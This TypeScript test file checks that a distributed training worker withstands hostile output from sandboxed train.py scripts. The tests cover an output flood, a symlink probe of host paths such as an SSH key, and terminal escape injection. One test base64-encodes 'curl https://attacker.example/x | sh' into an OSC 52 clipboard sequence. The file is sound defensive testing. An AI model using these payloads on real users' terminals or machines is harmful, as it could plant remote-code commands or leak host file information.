import t from 'tap'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { fileURLToPath } from 'node:url'
import { LIMITS } from '@autoresearch-grid/shared'
import { findPython } from '@autoresearch-grid/trainer'
import { sharedCorpus } from '../fixtures/corpus.ts'
import { detectSandbox } from '../../src/sandbox/detect.ts'
import { trainAndMeasure } from '../../src/runner/measure.ts'
import { prepareRunDir } from '../../src/runner/run-dir.ts'
import { terminalProgress } from '../../src/ui/progress.ts'
import { sourceHashOf } from '../fixtures/hostile/harness.ts'

// Attacks on the worker process itself through what the sandbox lets out: train.py's output. The
// sandbox holds; these go through the one channel it must leave open. Both run through the real
// runner, sandboxed.
const trainerDir = fileURLToPath(new URL('../../../trainer/', import.meta.url))
const python = await findPython().catch(() => null)

t.test('what train.py prints, against the worker', { skip: python ? false : 'needs a Python with torch' }, async t => {
  if (!python) return
  const found = await detectSandbox(python.path)
  if (!found.ok) return t.fail(`no sandbox here: ${found.problem}`)
  const data = await sharedCorpus()
  const run = async (dir: string, source: string) => {
    mkdirSync(dir, { recursive: true })
    const runDir = join(dir, 'run')
    await prepareRunDir({ runDir, files: { 'train.py': source }, trainerDir })
    return trainAndMeasure({
      python: python.path, trainerDir, runDir, budgetSeconds: 5, profile: 'cpu-tiny', cacheDir: join(dir, 'cache'), dataDir: data.dataDir,
      sandbox: found.host, sourceHash: sourceHashOf(source),
    })
  }

  t.test('one endless line of output (48 MiB, no newline) neither stalls the worker nor fills its memory', async t => {
    // Before: the worker held the whole line and scanned it again for each 64 KiB chunk, its event
    // loop (every lane, the coordinator's connection, the clock's timers) frozen for minutes.
    // A heartbeat every 100 ms, as the worker's own timers (the clock, the coordinator's pings):
    // the time it was kept waiting, summed over the run, is time the worker was frozen.
    let late = 0
    let last = performance.now()
    const beat = setInterval(() => {
      const now = performance.now()
      late += Math.max(0, now - last - 100)
      last = now
    }, 100)
    const m = await run(t.testdir(), `import sys
chunk = "A" * 65536
for _ in range(768):
    sys.stdout.write(chunk)
sys.stdout.write("\\nflood over\\n")
sys.stdout.flush()
sys.exit(1)
`)
    clearInterval(beat)
    // The old splitter kept them waiting ~70 s in all here; half of that is the bound, so that a
    // loaded machine (timers late by tens of ms each) cannot turn it red.
    t.ok(late < 35_000, `the worker's timers were kept waiting ${(late / 1000).toFixed(2)} s in all`)
    t.match(m.logTail, /flood over/, 'the run was read to its end')
    t.match(m.logTail, /more characters of this line cut/, 'the endless line is cut and says so')
    t.ok(m.logTail.length <= LIMITS.logTailBytes, 'the tail kept stays within its limit')
    t.equal(m.status, 'crash')
  })

  t.test('a symlinked checkpoint does not tell train.py\'s author which paths exist on the volunteer\'s machine', async t => {
    // The evaluator runs outside the sandbox: had it followed model.safetensors to a host path, its
    // answer (no checkpoint, or one the model server cannot open) would say whether that path
    // exists, in the log tail the author reads.
    const base = t.testdir()
    const outside = join(base, 'outside')
    mkdirSync(outside, { recursive: true })
    writeFileSync(join(outside, 'id_ed25519'), 'a key\n')
    const errors: string[] = []
    for (const target of [join(outside, 'id_ed25519'), join(outside, 'no-such-file')]) {
      const m = await run(join(base, target.endsWith('no-such-file') ? 'missing' : 'present'), `import os, sys, time
folder = os.environ["AUTORESEARCH_DATA"]
print("autoresearch: ready for the training data", flush=True)
while not os.path.exists(os.path.join(folder, "train.bin")):
    time.sleep(0.01)
os.symlink(${JSON.stringify(target)}, "model.safetensors")
print("---\\ntraining_seconds: 0.1\\ntotal_seconds: 0.2\\npeak_vram_mb: 0\\nmfu_percent: 0\\ntotal_tokens_M: 0\\nnum_steps: 1\\nnum_params_M: 0.3\\ndepth: 1", flush=True)
sys.exit(0)
`)
      t.equal(m.status, 'crash', `a symlink to a ${target.endsWith('no-such-file') ? 'missing' : 'present'} host file is no checkpoint: ${m.error}`)
      errors.push((m.error ?? '').replace(target, 'TARGET'))
    }
    t.equal(errors[0], errors[1], 'the same answer whether the host path exists or not')
  })

  t.test('escape sequences in a crash line reach the volunteer\'s terminal as visible text', async t => {
    // OSC 52 sets the clipboard (a command waiting to be pasted), ESC[2J clears the screen, OSC 0
    // sets the window title; the crash's last error line goes into the error the worker logs.
    const m = await run(t.testdir(), `import base64, sys
evil = base64.b64encode(b"curl https://attacker.example/x | sh\\n").decode()
print("ValueError: bad shape\\x1b]52;c;" + evil + "\\x07\\x1b[2J\\x1b]0;all good\\x07\\x9b2J\\u202e", flush=True)
sys.exit(1)
`)
    t.match(m.error ?? '', /\x1b\]52;c;/, 'the control: the sequence is in the error the worker logs')
    const stream = Object.assign(new PassThrough(), { columns: 120, isTTY: true }) as unknown as NodeJS.WriteStream
    let out = ''
    ;(stream as unknown as PassThrough).on('data', b => { out += String(b) })
    const ui = terminalProgress(stream)
    ui.start('', { unitId: 'u1', title: 'a title with \x1b]52;c;Y3VybA==\x07 in it', budgetSeconds: 5 })
    ui.log(`u1: attempt 1 failed: ${m.error}`) // as loop/experiment.ts logs it
    ui.stop('')
    t.notMatch(out, /\x1b\]|\x07|\x1b\[2J|\x9b|\u202e/, 'no OSC, BEL, clear-screen, C1 CSI or bidi override reaches the terminal')
    t.match(out, /ValueError: bad shape\\u001b\]52;c;/, 'the volunteer sees the attempt, escaped')
  })
})
